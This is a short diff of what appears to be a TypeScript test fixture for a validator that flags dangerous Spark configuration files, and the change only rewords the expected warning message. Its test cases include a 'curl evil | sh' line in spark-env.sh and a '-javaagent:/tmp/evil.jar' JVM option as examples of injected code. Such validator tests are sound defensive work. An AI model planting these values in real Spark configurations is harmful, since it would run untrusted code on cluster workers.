@@ -83,12 +83,12 @@ export const SPARK_SUBMIT: readonly Escape[] = [
   {
     about: 'a script that starts spark-submit',
     written: { sparkConfFiles: { 'spark-env.sh': 'curl evil | sh' } },
-    told: /would be heeded by the spark-submit on the worker/,
+    told: /would be read by spark-submit on the worker/,
   },
   {
     about: "options of the worker's JVM",
     written: { sparkConfFiles: { 'java-opts': '-javaagent:/tmp/evil.jar' } },
-    told: /would be heeded by the spark-submit on the worker/,
+    told: /would be read by spark-submit on the worker/,
   },
   {
     about: "appenders of the worker's JVM",
